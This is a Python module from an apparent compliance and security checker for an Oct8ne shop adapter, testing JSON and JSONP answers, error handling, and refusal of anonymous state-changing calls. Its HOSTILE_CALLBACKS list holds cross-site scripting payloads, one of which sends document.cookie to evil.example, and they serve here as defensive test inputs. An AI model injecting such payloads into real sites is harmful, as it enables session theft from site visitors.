"""Checks of the frame protocol: every method as JSON and JSONP, names, callbacks, errors."""

from __future__ import annotations

from typing import Any

from oct8ne_adapter.checker.context import CALLBACK, UNKNOWN_PRODUCT, Context
from oct8ne_adapter.checker.http import JSONP_CONTENT_TYPES, Answer, parse_jsonp, shorten
from oct8ne_adapter.checker.results import Check, Fault, Level, Verdict, passed
from oct8ne_adapter.checker.schemas import unknown_fields

#: The methods every adapter serves (the 2.4 table), in the order they are checked.
CORE_METHODS = (
    "getAdapterInfo",
    "productInfo",
    "productSummary",
    "search",
    "customerData",
    "addToWishList",
    "getOrders",
    "getOrderDetails",
)
#: Callbacks an attacker would send; none may come back as written.
HOSTILE_CALLBACKS = (
    "alert(document.cookie)//",
    "<script>alert(1)</script>",
    "cb);fetch('//evil.example/'+document.cookie);//",
)
#: Not part of the protocol, but served by official modules to change their configuration
#: (the PrestaShop and WooCommerce connectors' back-office actions): never to an anonymous call.
STATE_CHANGING = ("unlink", "changeConfiguration")
#: A JSONP error with a non-2xx status never reaches the widget: the browser does not run it.
JSONP_ERROR_LEVEL = Level.PROTOCOL


def _summary(payload: Any) -> str:
    """A few words on what a valid answer holds."""
    if isinstance(payload, list):
        return f"{len(payload)} item{'s' if len(payload) != 1 else ''}"
    if not isinstance(payload, dict):
        return "valid"
    if "results" in payload:
        return f"total {payload['total']}, {len(payload['results'])} results"
    if "apiVersion" in payload:
        return f"apiVersion {payload['apiVersion']}, enabled {str(payload['enabled']).lower()}"
    if "wishlist" in payload:
        who = "anonymous visitor" if payload["id"] is None else f"customer {payload['id']}"
        return f"{who}, {len(payload['cart'])} in cart, {len(payload['wishlist'])} in wishlist"
    if "totalItems" in payload:
        return f"{payload['totalItems']} items, {payload['finalPrice']} {payload['currency']}"
    if "reference" in payload:
        lines = len(payload["products"])
        return f"order {payload['reference']}, {lines} product line{'s' if lines != 1 else ''}"
    if "result" in payload:
        return f"result {payload['result']!r}"
    return "valid"


def json_check(method: str) -> Check:
    """`<method>.json`: a plain call answers 200 `application/json` that fits the schema."""

    def run(ctx: Context) -> Verdict:
        answer = ctx.call(method, ctx.method_params(method))
        payload = ctx.typed(method, answer, ctx.payload(answer))
        ctx.payloads[method] = payload
        for reason in unknown_fields(method, payload):
            ctx.flag(
                f"{answer.request}: unknown field, {reason}",
                level=Level.HARDENING,
                key=("unknown field", method, reason.split(":")[-1]),
            )
        if method in ("productInfo", "productSummary") and UNKNOWN_PRODUCT in answer.request:
            return passed("no product id known: only an empty answer was checked")
        if method in ("getOrders", "getOrderDetails") and not ctx.options.token:
            return passed("valid; without a token only the answer to a wrong one was checked")
        return passed(f"application/json, valid: {_summary(payload)}")

    return Check(f"{method}.json", f"{method} answers JSON of the 2.4 structure", run)


def jsonp_check(method: str) -> Check:
    """`<method>.jsonp`: with a callback, `/**/cb(<the same JSON>);` as JavaScript, nosniff."""

    def run(ctx: Context) -> Verdict:
        answer = ctx.call(method, [*ctx.method_params(method), ("callback", CALLBACK)])
        answer.expect_status(200)
        if not answer.body.strip():
            answer.json()  # an empty body: the method's cause, not its Content-Type
        if answer.content_type not in JSONP_CONTENT_TYPES:
            ctx.flag(
                f"{answer.request}: Content-Type {answer.content_type or '(none)'!r} for "
                "JSONP, not 'application/javascript' (the 2.4 document: \"always with the "
                'content-type set to application/javascript")',
                key=("content-type jsonp", answer.content_type),
            )
        if answer.header("x-content-type-options").lower() != "nosniff":
            ctx.flag(
                f"{answer.request}: no 'X-Content-Type-Options: nosniff' on JSONP",
                level=Level.HARDENING,
                key=("nosniff",),
            )
        jsonp = parse_jsonp(answer, CALLBACK)
        if method in ctx.payloads and jsonp.payload != ctx.payloads[method]:
            raise Fault(
                f"{answer.request}: the JSONP payload {shorten(jsonp.payload)} differs from "
                f"the JSON answer {shorten(ctx.payloads[method])}"
            )
        if not jsonp.commented:
            ctx.flag(
                f"{answer.request}: no '/**/' before the callback (defence in depth)",
                level=Level.HARDENING,
                key=("jsonp comment",),
            )
        return passed(f"{answer.content_type}, /**/{CALLBACK[:6]}…(…); with nosniff")

    return Check(f"{method}.jsonp", f"{method} answers JSONP with a callback", run)


def _canonical(ctx: Context, method: str, params: list[tuple[str, str]]) -> Any:
    if method not in ctx.payloads:
        ctx.payloads[method] = ctx.payload(ctx.call(method, params))
    return ctx.payloads[method]


def method_names(ctx: Context) -> Verdict:
    """Method names are case-insensitive."""
    checked = []
    for method in ("getAdapterInfo", "productSummary"):
        params = ctx.method_params(method)
        expected = _canonical(ctx, method, params)
        for spelling in (method.lower(), method.upper()):
            answer = ctx.call(spelling, params)
            if answer.status == 404:
                raise Fault(f"{answer.request}: 404, method names must be case-insensitive")
            if ctx.payload(answer) != expected:
                raise Fault(f"{answer.request}: answers differently from {method}")
            checked.append(spelling)
    return passed(f"{', '.join(checked)} answer as the documented names do")


def unknown_method(ctx: Context) -> Verdict:
    """An unknown method is a 4xx, not a 200 or a crash."""
    answer = ctx.call("oct8neCheckNoSuchMethod")
    if answer.status >= 500:
        raise Fault(f"{answer.request}: HTTP {answer.status}: {shorten(answer.text)}")
    if answer.status == 200:
        raise Fault(
            f"{answer.request}: 200 for an unknown method: {shorten(answer.text)}",
            level=Level.HARDENING,
        )
    return passed(f"HTTP {answer.status}")


def jsonp_errors(ctx: Context) -> Verdict:
    """An error with a callback reaches it: 200 and `cb({...error...})` (DESIGN §3)."""
    # A browser does not run a script served with a non-2xx status: the widget would wait for
    # a callback that never comes (DESIGN §3: "a call with a valid callback always gets 200").
    answer = ctx.call("oct8neCheckNoSuchMethod", [("callback", CALLBACK)])
    if answer.status >= 500:
        raise Fault(f"{answer.request}: HTTP {answer.status}: {shorten(answer.text)}")
    if answer.status != 200:
        raise Fault(
            f"{answer.request}: HTTP {answer.status}: a browser runs no script with a non-2xx "
            "status, so the error never reaches the callback; answer 200 with the error inside",
            level=JSONP_ERROR_LEVEL,
        )
    payload = parse_jsonp(answer, CALLBACK).payload
    if not _is_error(payload):
        raise Fault(
            f"{answer.request}: 200 without an error for an unknown method: {shorten(payload)}"
        )
    return passed(f"200, the error inside {CALLBACK[:6]}…(): {shorten(payload, 60)}")


def _is_error(payload: Any) -> bool:
    return isinstance(payload, dict) and any(
        key.lower() in ("error", "errors", "message") and value not in (None, False, "")
        for key, value in payload.items()
    )


def state_changing(ctx: Context) -> Verdict:
    """Methods outside the protocol that change state refuse an anonymous call."""
    outcomes = []
    for method in STATE_CHANGING:
        answer = ctx.call(method)
        if 200 <= answer.status < 300 and not _refusal(answer):
            raise Fault(
                f"{answer.request}: HTTP {answer.status} to an anonymous call "
                f"({shorten(answer.text, 60)}): anyone could {method} the shop's oct8ne link",
                level=Level.SECURITY,
            )
        outcomes.append(f"{method}: HTTP {answer.status}")
    return passed("refused anonymously: " + ", ".join(outcomes))


def _refusal(answer: Answer) -> bool:
    """Whether a 2xx answer is an error (JSON or JSONP) rather than the action done."""
    try:
        payload = answer.json()
    except Fault:
        return False
    return _is_error(payload) or payload in ([], None, False)


def hostile_callbacks(ctx: Context) -> Verdict:
    """A callback that is not a JavaScript name is refused or cleaned, never reflected."""
    outcomes = []
    for callback in HOSTILE_CALLBACKS:
        answer = ctx.call("getAdapterInfo", [("callback", callback)])
        if answer.status >= 500:
            raise Fault(f"{answer.request}: HTTP {answer.status} for a hostile callback")
        if callback in answer.text:
            inert = answer.content_type == "application/json" and (
                answer.header("x-content-type-options").lower() == "nosniff"
            )
            if not inert:
                raise Fault(
                    f"{answer.request}: reflected raw as {answer.content_type or '(no type)'}: "
                    f"{shorten(answer.text)}",
                    level=Level.SECURITY,
                    key=("callback reflected",),
                )
            ctx.flag(
                f"{answer.request}: echoed inside a JSON error: {shorten(answer.text)}",
                level=Level.HARDENING,
                key=("callback echoed",),
            )
        outcomes.append(
            f"HTTP {answer.status}" if answer.status != 200 else "200 with the callback cleaned"
        )
    summary = ", ".join(sorted(set(outcomes)))
    return passed(f"{len(HOSTILE_CALLBACKS)} hostile callbacks not reflected ({summary})")


def _per_method() -> list[Check]:
    checks = []
    for method in CORE_METHODS:
        checks += [json_check(method), jsonp_check(method)]
    return checks


CHECKS: list[Check] = [
    *_per_method(),
    Check.documented("methods.case", method_names),
    Check.documented("methods.unknown", unknown_method),
    Check.documented("errors.jsonp", jsonp_errors),
    Check.documented("callback.hostile", hostile_callbacks),
    Check.documented("methods.state-changing", state_changing),
]
